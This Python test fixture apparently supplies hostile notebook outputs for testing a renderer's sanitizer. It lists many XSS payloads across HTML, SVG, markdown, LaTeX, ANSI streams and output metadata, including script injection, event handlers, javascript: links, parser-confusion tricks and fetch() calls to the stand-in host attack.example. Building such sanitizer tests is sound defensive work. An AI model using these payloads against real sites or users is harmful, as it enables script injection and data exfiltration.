"""Outputs of notebooks that try to run something, to load something from elsewhere, or to break out of their place."""

from cells import PNG, result, stream

ELSEWHERE = "https://attack.example"
SHOT = "top.hacked=1;document.title='hacked';fetch('https://attack.example/x');"
CALL = f"(function(){{{SHOT}}})()"
HTML_ATTACKS = [
    f"<script>{SHOT}</script>",
    f"<SCRIPT/x>{SHOT}</SCRIPT >",
    "<script src='https://attack.example/x.js'></script>",
    f"<scr<script>ipt>{SHOT}</scr</script>ipt>",
    f'<img src=x onerror="{SHOT}">',
    f'<img src="x`onerror={CALL}">',
    '<img src="https://attack.example/x.png" srcset="https://attack.example/y.png 2x">',
    f'<svg onload="{SHOT}"></svg>',
    f"<svg><script>{SHOT}</script></svg>",
    f'<svg><animate onbegin="{SHOT}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{SHOT}"><text x=20 y=20>click</text></a></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math href="javascript:{SHOT}">x</math>',
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<template><img src=x onerror="{SHOT}"></template>',
    f'<iframe src="javascript:{SHOT}"></iframe>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<iframe src="https://attack.example/"></iframe>',
    f'<object data="javascript:{SHOT}"></object><embed src="https://attack.example/x.swf">',
    '<meta http-equiv="refresh" content="0; url=https://attack.example/">',
    '<base href="https://attack.example/">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css"><link rel=prefetch href="{ELSEWHERE}/">',
    f'<style>@import "{ELSEWHERE}/x.css"; body {{ background: url({ELSEWHERE}/x) }}</style>',
    '<p style="background: url(https://attack.example/x); position: fixed; inset: 0">over</p>',
    f'<a href="javascript:{SHOT}" id=link>click</a><a href=" &#1;javascript:{SHOT}">click</a>',
    f'<a href="data:text/html,<script>{SHOT}</script>">click</a><a href="vbscript:x">click</a>',
    f'<form action="https://attack.example/"><button formaction="javascript:{SHOT}">x</button></form>',
    f'<input autofocus onfocus="{SHOT}"><select autofocus onfocus="{SHOT}"></select>',
    f'<details open ontoggle="{SHOT}"><summary>x</summary></details>',
    f'<video autoplay src="{ELSEWHERE}/x.mp4" onerror="{SHOT}"><source src=x onerror="{SHOT}"></video>',
    f'<audio src=x onerror="{SHOT}"></audio><body onload="{SHOT}">',
    f'<marquee onstart="{SHOT}">x</marquee><xmp><script>{SHOT}</script></xmp>',
    f'<p onmouseover="{SHOT}" onpointerenter="{SHOT}" tabindex=1 autofocus onfocus="{SHOT}" contenteditable>x</p>',
    f'<table background="{ELSEWHERE}/x"><td background="{ELSEWHERE}/x" onclick="{SHOT}">x</table>',
    f"</pre></div></main><script>{SHOT}</script>",
    f'<!--><img src=x onerror="{SHOT}">--><![CDATA[<img src=x onerror="{SHOT}">]]>',
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SHOT}'/>\">",
    f"\x00\x000\x00<scri\x00pt>{SHOT}</scri\x00pt>\x00table\x00",
    f'<portal src="{ELSEWHERE}/"></portal><frameset><frame src="{ELSEWHERE}/"></frameset>',
    '<p id="main" class="skip" name="attributes">clobber</p><img name="hacked" id="title">',
    f'<select><style></select><img src=x onerror="{SHOT}"></style></select>',
]
NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"'
SVG_ATTACKS = [
    f"<svg {NS}><script>{SHOT}</script><rect width='9' height='9'/></svg>",
    f"<svg {NS} onload=\"{SHOT}\"><rect width='8' height='9'/></svg>",
    f"<svg {NS}><script xlink:href='https://attack.example/x.js'/><rect width='7' height='9'/></svg>",
    f"<svg {NS}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{ELSEWHERE}/'/></foreignObject></svg>",
    f"<svg {NS}><image href='{ELSEWHERE}/x.png'/><use href='{ELSEWHERE}/x.svg#a'/></svg>",
    f"<svg {NS}><a href=\"javascript:{SHOT}\"><rect width='99' height='99'/></a></svg>",
    f"<svg {NS}><animate attributeName='href' values='javascript:{CALL}' begin='0s'/></svg>",
    f"<svg {NS}><set attributeName='onload' to='{CALL}'/></svg>",
    f"<svg {NS}><style>@import url({ELSEWHERE}/x.css); * {{ fill: url({ELSEWHERE}/y) }}</style></svg>",
    f"<svg {NS}><rect style='fill: url({ELSEWHERE}/y#z)' width='6' height='9'/></svg>",
    f"<svg {NS}><rect filter='url({ELSEWHERE}/y#z)' width='6' height='9'/></svg>",
    f"<?xml-stylesheet href='{ELSEWHERE}/x.css'?><svg {NS}><handler type='x'>{SHOT}</handler></svg>",
    f"<svg {NS}><x:script xmlns:x='http://www.w3.org/2000/svg'>{SHOT}</x:script></svg>",
    f"<svg {NS}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{SHOT}</h:script></svg>",
]
OTHER_ATTACKS = [
    result(text__markdown=f'[x](javascript:{CALL}) <img src=x onerror="{SHOT}"> ![y]({ELSEWHERE}/y.png)'),
    result(
        text__markdown=f'a{{: onclick={CALL} }}\n\n# b {{: style="x" onmouseover={CALL} }}\n\n<script>{SHOT}</script>'
    ),
    result(text__latex=f"$\\text{{<img src=x onerror={CALL}>}}$"),
    result(text__latex=f"$\\href{{javascript:{CALL}}}{{x}}$", text__plain="x"),
    result(application__javascript=SHOT, text__plain=f"<script>{SHOT}</script>"),
    stream(f"\x1b[31m<img src=x onerror='{SHOT}'>\x1b]8;;javascript:{SHOT}\x07link\x1b]8;;\x07\x00\x000\x00"),
    {"output_type": "stream", "name": f'"><script>{SHOT}</script>', "text": "x"},
    {"output_type": "error", "ename": f"<script>{SHOT}</script>", "evalue": "x", "traceback": []},
    {"output_type": "error", "ename": f"<b>{SHOT}", "evalue": "x", "traceback": [f"<script>{SHOT}</script>\n" * 40]},
    result(image__png=PNG, metadata={"image/png": {"width": f'"><script>{SHOT}</script>', "height": 3}}),
]
